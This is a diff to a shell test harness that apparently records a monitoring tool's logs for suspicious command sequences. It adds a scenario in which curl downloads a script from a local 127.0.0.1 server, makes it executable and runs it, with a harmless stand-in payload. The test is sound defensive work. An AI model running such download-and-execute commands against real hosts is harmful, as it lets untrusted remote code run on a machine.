@@ -710,6 +710,10 @@ sc_seq_unshare_root() {    # one parent: a user-namespace unshare as nobody, the
     setpriv --reuid=65534 --regid=65534 --clear-groups unshare --user --map-root-user /bin/true
     sh -c 'id -u >/dev/null; :'
 }
+sc_seq_download_exec() {   # curl fetches a script from 127.0.0.1 to /tmp, which then runs
+    curl -s -o "$1/payload.sh" http://127.0.0.1:18082/payload.sh && chmod 0755 "$1/payload.sh" &&
+        "$1/payload.sh"
+}
 
 run_sequence_set() {
     local tmp
@@ -722,13 +726,21 @@ run_sequence_set() {
     git -C "$tmp/repo.git" update-server-info
     mkdir -p "$tmp/tpl/hooks"
     printf '#!/bin/sh\nexit 0\n' >"$tmp/tpl/hooks/post-checkout"
+    printf '#!/bin/sh\nexit 0\n' >"$tmp/payload.sh"
     chmod 0755 "$tmp/tpl/hooks/post-checkout"
     (cd "$tmp" && exec python3 -m http.server --bind 127.0.0.1 18082 >/dev/null 2>&1) &
     local srv=$!
     sleep 1
+    if [[ -n ${SEQ_ONLY:-} ]]; then   # one scenario again: SEQ_ONLY=seq_download_exec
+        NET_RULES=1 capture "$SEQ_ONLY.enriched.log" ENRICHED "" "sc_$SEQ_ONLY" "$tmp"
+        kill "$srv" 2>/dev/null || true
+        wait "$srv" 2>/dev/null || true
+        return
+    fi
     capture seq_git_clone_hook.enriched.log ENRICHED "" sc_seq_git_clone "$tmp"
     capture seq_suid_su.enriched.log        ENRICHED "" sc_seq_suid_su
     capture seq_unshare_root.enriched.log   ENRICHED "" sc_seq_unshare_root
+    NET_RULES=1 capture seq_download_exec.enriched.log ENRICHED "" sc_seq_download_exec "$tmp"
     kill "$srv" 2>/dev/null || true
     wait "$srv" 2>/dev/null || true
 }
